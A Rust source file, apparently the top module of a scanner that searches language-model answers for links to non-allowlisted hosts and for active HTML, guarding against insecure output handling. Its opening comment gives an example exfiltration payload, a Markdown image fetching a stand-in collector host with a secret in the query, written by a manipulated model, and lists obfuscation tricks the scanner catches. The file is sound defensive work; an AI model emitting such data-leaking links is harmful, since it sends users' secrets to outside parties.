//! What an answer would make a reader's program do (OWASP LLM05): addresses that a page fetches or offers to follow,
//! and active HTML.
//!
//! A manipulated model writes `![](https://collector.example/?q=SECRET)`, and the program that shows the answer fetches
//! it. So every address whose host is not on the author's list is found, in whatever way Markdown or HTML lets it be
//! written: inline, by reference, bare, in an attribute, relative to the scheme, with entities, escapes, tabs, user
//! names or lookalike letters in it. An allow list makes most tricks harmless: a host that is not clearly a listed one
//! counts as not listed. What remains is to recognise that something is an address at all, and in doubt the search
//! assumes that it is.
//!
//! Code in Markdown (fenced blocks, spans) is displayed literally and not searched, as long as the text is so simple
//! that every reader agrees on where the code is (see [`code`]).
//!
//! A text may come in pieces: [`OutputState`] holds what must be known of the text before, and at most one kibibyte at
//! the end of a text is undecided.
mod address;
mod code;
mod decode;
mod hosts;
mod scan;
mod state;
mod tag;

use std::ops::Range;

pub use hosts::Hosts;
pub use state::OutputState;

/// What is searched for.
#[derive(Clone, Debug, Default)]
pub struct OutputRules {
    /// Addresses of hosts other than these.
    pub links: Option<Hosts>,
    /// Active HTML: scripts, frames, event handlers, `javascript:` addresses.
    pub html: bool,
    /// Also search code in Markdown.
    pub code: bool,
    /// Addresses are removed rather than shown: what follows their host is found, too.
    pub remove_links: bool,
    /// The same for active HTML: what follows a tag's name or a `javascript:` is found, too.
    pub remove_html: bool,
}

/// The kind of a finding.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum OutputKind {
    /// An address of a host that is not listed.
    Link,
    /// Active HTML.
    Html,
    /// What follows a [`OutputKind::Link`] or an [`OutputKind::Html`] and is removed with it: a path, the rest of a
    /// tag.
    Rest,
}

/// Something found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OutputFinding {
    /// Its kind.
    pub kind: OutputKind,
    /// Its rule, in fixed words: `link`, `script`, `handler`, `javascript`, …
    pub rule: &'static str,
    /// A byte range of the text.
    pub span: Range<usize>,
    /// The replacement: no program acts on it; unless the finding is removed, a person can still see what was there.
    pub with: String,
}

impl OutputRules {
    /// Searches a text from `state` on, up to byte `limit`; returns how far it got, and the state there. `last` if the
    /// text ends here: then it gets to `limit`, unless a token that must be searched in one piece extends beyond it.
    pub fn search(
        &self,
        state: &OutputState,
        text: &str,
        limit: usize,
        last: bool,
        found: &mut Vec<OutputFinding>,
    ) -> (usize, OutputState) {
        let mut scan = scan::Scan::new(self, state.clone(), text, last);
        scan.run(limit, found);
        (scan.at, scan.state)
    }
}
